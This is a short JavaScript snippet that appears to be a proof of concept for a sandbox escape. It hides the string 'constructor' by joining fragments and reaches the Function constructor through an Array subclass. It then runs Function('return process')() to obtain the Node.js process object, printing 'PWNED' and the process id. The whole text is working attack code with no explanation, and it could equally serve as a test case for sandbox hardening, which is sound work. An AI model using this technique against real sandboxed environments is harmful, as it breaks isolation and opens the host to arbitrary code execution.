const w = ['con', 'structor'].join('');
class L extends Array { go(f) { return f[w]; } }
new L().go({});
const fn = (x) => x;
console.log('PWNED', new L(1, 2).slice(1).go(fn)('return process')().pid);
